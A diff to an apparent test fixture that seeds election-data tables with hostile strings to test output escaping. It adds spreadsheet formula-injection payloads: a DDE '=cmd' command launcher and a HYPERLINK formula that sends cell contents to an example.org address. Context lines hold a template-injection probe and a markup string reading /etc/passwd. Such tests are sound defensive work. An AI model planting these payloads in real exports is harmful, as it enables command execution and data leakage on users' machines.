@@ -10,6 +10,9 @@ TURNED = "Desa\u202egnirab\u2066 \u0000akhir"
 MARKUP = '#panic("x") $x^2$ *bold* _it_ `raw` @ref <lbl> \\ // [a] = H #image("/etc/passwd")'
 TEMPLATE = "{{ 7*7 }} {% raw %} {0} {area}"
 LONG = "Panjang" * 40
+FORMULA = "=cmd|' /C calc'!A0"
+LINK = '=HYPERLINK("https://example.org/?x="&A1;"Klik")'
+FORMULAS = (FORMULA, LINK, "+1+1", "-2+3", "@SUM(A1)")
 EVERYTHING = " ".join((SCRIPT, QUOTES, TURNED, MARKUP, TEMPLATE))
 
 
@@ -31,6 +34,19 @@ def poison(con: duckdb.DuckDBPyConnection) -> None:
         [MARKUP, EVERYTHING, QUOTES, SCRIPT],
     )
     con.execute("update mart.first_places set area_name = ?, evidence = ?", [LONG, SCRIPT])
+    con.execute("update mart.first_places set area_name = ? where rank = 2", [LINK])
+    con.execute(
+        "update ref.elections set name_id = ?, name_en = ? where election_id = 'pilkada-2024'", [FORMULA] * 2
+    )
+    con.execute("update mart.coverage set area_name = ?", [FORMULA])
+    con.execute(
+        "insert into ref.grounds by name select 'ineligible_voter' as ground_code, ? as article",
+        [FORMULA],
+    )
+    con.execute(
+        "insert into ref.provisions by name select 'data' as provision_code, ? as label_id, ? as label_en",
+        [QUOTES] * 2,
+    )
     for mart in ("hotspots", "persistence", "propensity", "clusters", "ground_profile"):
         con.execute(f"update mart.{mart} set area_name = ?", [EVERYTHING])
     con.execute("update mart.ground_profile set ground_id = ?", [MARKUP])
